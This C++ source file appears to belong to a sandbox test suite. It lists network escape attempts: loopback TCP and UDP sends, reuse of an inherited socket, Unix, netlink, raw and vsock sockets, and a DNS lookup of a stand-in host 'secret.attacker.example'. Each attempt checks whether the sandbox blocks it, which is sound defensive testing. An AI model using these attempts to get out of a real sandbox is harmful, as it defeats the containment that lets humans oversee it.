// Reaching others over sockets.
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <netdb.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <array>
#include <cstring>

#include "attempts.h"

namespace hostile {
namespace {

sockaddr_in loopback(int port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

template <class Address>
Outcome connect_to(int family, int type, const Address& address, socklen_t size) {
  const int fd = ::socket(family, type, 0);
  if (fd < 0) return outcome(fd);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&address), size) != 0) return outcome(-1);
  return outcome(::send(fd, "escaped", 7, MSG_NOSIGNAL));
}

Outcome tcp_connect(const Target& target) {
  return connect_to(AF_INET, SOCK_STREAM, loopback(target.tcp_port), sizeof(sockaddr_in));
}

Outcome udp_send(const Target& target) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) return outcome(fd);
  const auto address = loopback(target.udp_port);
  return outcome(
      ::sendto(fd, "escaped", 7, 0, reinterpret_cast<const sockaddr*>(&address), sizeof address));
}

// Over the one socket that there is, as if it were connected elsewhere.
Outcome send_elsewhere(const Target& target) {
  const auto address = loopback(target.udp_port);
  return outcome(
      ::sendto(3, "escaped", 7, 0, reinterpret_cast<const sockaddr*>(&address), sizeof address));
}

Outcome name_lookup(const Target&) {
  addrinfo* found = nullptr;
  const int error = ::getaddrinfo("secret.attacker.example", "443", nullptr, &found);
  return error == 0 ? Outcome{0, "resolved"} : Outcome{errno != 0 ? errno : EAGAIN, {}};
}

Outcome unix_connect(const Target& target) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  const auto path = target.folder + "/socket";
  std::memcpy(address.sun_path, path.c_str(), path.size() + 1);
  return connect_to(AF_UNIX, SOCK_STREAM, address, sizeof address);
}

Outcome abstract_connect(const Target& target) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path + 1, target.abstract_name.data(), target.abstract_name.size());
  return connect_to(
      AF_UNIX, SOCK_STREAM, address,
      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + target.abstract_name.size()));
}

Outcome listen_on_tcp(const Target&) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return outcome(fd);
  const auto address = loopback(0);
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0)
    return outcome(-1);
  return outcome(::listen(fd, 1));
}

Outcome socket_pair(const Target&) {
  std::array<int, 2> pair{};
  return outcome(::socketpair(AF_UNIX, SOCK_STREAM, 0, pair.data()));
}

Outcome netlink(const Target&) {
  return outcome(::socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE));
}

Outcome raw_socket(const Target&) {
  return outcome(::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
}

Outcome vsock(const Target&) {
  return outcome(::socket(AF_VSOCK, SOCK_STREAM, 0));
}

constexpr Attempt kAttempts[] = {
    {"tcp_connect", tcp_connect, Walls::kEnd, "socket", true},
    {"udp_send", udp_send, Walls::kEnd, "socket", true},
    {"send_elsewhere", send_elsewhere, Walls::kEnd, "sendto"},
    {"name_lookup", name_lookup, Walls::kEnd, "socket"},
    {"unix_connect", unix_connect, Walls::kEnd, "socket", true},
    {"abstract_connect", abstract_connect, Walls::kEnd, "socket", true},
    {"listen_on_tcp", listen_on_tcp, Walls::kEnd, "socket", true},
    {"socket_pair", socket_pair, Walls::kEnd, "socketpair", true},
    {"netlink", netlink, Walls::kEnd, "socket", true},
    {"raw_socket", raw_socket, Walls::kEnd, "socket"},
    {"vsock", vsock, Walls::kEnd, "socket"},
};

}  // namespace

std::span<const Attempt> network_attempts() {
  return kAttempts;
}

}  // namespace hostile
